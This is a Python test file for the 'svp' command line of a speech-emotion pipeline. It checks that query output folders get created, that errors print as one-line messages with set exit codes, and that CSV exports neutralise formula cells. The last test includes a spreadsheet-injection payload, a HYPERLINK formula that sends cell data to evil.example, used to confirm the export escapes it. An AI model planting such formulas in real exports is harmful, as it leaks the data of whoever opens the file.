"""The `svp` command line in-process (ui/cli.py): `svp query` writes the folders of its outputs, neutralises CSV
cells a spreadsheet would execute (issue 28), and any SvpError that reaches it is one line with the right exit code.
`svp` as a subprocess: tests/integration/cli/test_cli.py."""

import datetime as dt
from pathlib import Path

import pytest

from sensevoice_pipeline import errors
from sensevoice_pipeline.lake import tables
from sensevoice_pipeline.lake.catalog import Lake


def test_query_creates_the_folders_of_its_outputs(tmp_path, monkeypatch, capsys):
    """`--csv reports/2026/angry.csv` writes the file and the folders it needs, like `--png`."""
    import pyarrow as pa

    from sensevoice_pipeline.ui.cli import main
    from sensevoice_pipeline.warehouse import database as warehouse

    asked = []

    class FakeWarehouse:  # the CLI's side only: the lake's storage is tested in test_daily / test_storage
        def __init__(self, lake_root, db_path=None, *_):
            pass

        def query(self, name, date_from=None, date_to=None, by="language", min_confidence=0.0):
            asked.append((name, date_from, date_to, by))
            return pa.table(  # angry-calls' columns that its chart reads
                {
                    "date": pa.array([dt.date(2026, 1, 1)]),
                    "source_path": ["a.wav"],
                    "channel": [0],
                    "angry_segments": [2],
                    "segments": [4],
                    "angry_share": [0.5],
                }
            )

    monkeypatch.setattr(warehouse, "Warehouse", FakeWarehouse)
    monkeypatch.chdir(tmp_path)
    csv_path, png_path = Path("reports/2026/angry.csv"), tmp_path / "charts" / "angry.png"
    assert (
        main(
            [
                "query",
                "angry-calls",
                "--from",
                "2026-01-01",
                "--to",
                "2026-01-01",
                "--csv",
                str(csv_path),
                "--png",
                str(png_path),
            ]
        )
        == 0
    )
    assert asked == [("angry-calls", dt.date(2026, 1, 1), dt.date(2026, 1, 1), "language")]
    assert csv_path.read_text().splitlines() == [
        '"date","source_path","channel","angry_segments","segments","angry_share"',
        '2026-01-01,"a.wav",0,2,4,0.5',
    ]
    assert png_path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert f"wrote {csv_path}" in capsys.readouterr().err


@pytest.mark.parametrize(
    "error,code",
    [
        (errors.ConfigurationError("date 2026-01-01 is being processed by run r1"), 2),
        (errors.ServingError("sensevoice is not ready"), 2),
        (errors.InputError("call.wav: cannot decode"), 2),
        (errors.PublishError("the partition changed during the run:\nadded a.wav"), 1),
        (errors.FailureBudgetExceeded("published 2026-01-01, but 3 of 4 files failed"), 1),
    ],
)
def test_errors_raised_on_purpose_are_one_line(monkeypatch, capsys, error, code):
    """Any SvpError that reaches the command line: one line (its message, newlines folded), no traceback; exit 2
    when the user can fix settings, input or server, 1 when the run itself failed."""
    from sensevoice_pipeline.ui import cli, cli_query

    def fail(args):
        raise error

    monkeypatch.setattr(cli_query, "cmd_query", fail)
    assert cli.main(["query", "events"]) == code
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("svp query: ") and "Traceback" not in err
    assert " ".join(str(error).split()) in err


def test_csv_exports_neutralise_cells_a_spreadsheet_would_execute(tmp_path):
    from sensevoice_pipeline.ui import cli

    lake, day = tmp_path / "lake", "2026-01-01"
    texts = [
        '=HYPERLINK("http://evil.example/?"&A1,"refund")',
        "+1 555 0100",
        "@SUM(A1:A9)",
        "-2+3",
        "\tpadded",
        "a plain angry sentence",
    ]
    rows = [
        {
            "recording_id": f"r{i}",
            "source_path": f"calls/{i}.wav",
            "channel": 0,
            "segment_index": 0,
            "start_s": 0.0,
            "end_s": 2.0,
            "language": "en",
            "language_hint": "auto",
            "emotion": "angry",
            "event": "Speech",
            "itn": True,
            "text": text,
            "raw_text": f"<|en|><|ANGRY|><|Speech|><|withitn|>{text}",
            "model_name": "sensevoice",
            "model_version": "1",
            "run_id": "r",
            "processed_at": dt.datetime.now(dt.UTC),
        }
        for i, text in enumerate(texts)
    ]
    utterances = tables.to_table(rows, tables.UTTERANCES)
    Lake(lake).commit_day(day, {"utterances": utterances, **tables.rollups(utterances)})
    out = tmp_path / "angry.csv"
    assert cli.main(["query", "angry-calls", "--lake", str(lake), "--csv", str(out)]) == 0
    import csv

    cells = {row["angry_text"] for row in csv.DictReader(out.open())}
    assert cells == {"'" + t if t[0] in "=+-@\t" else t for t in texts}, cells
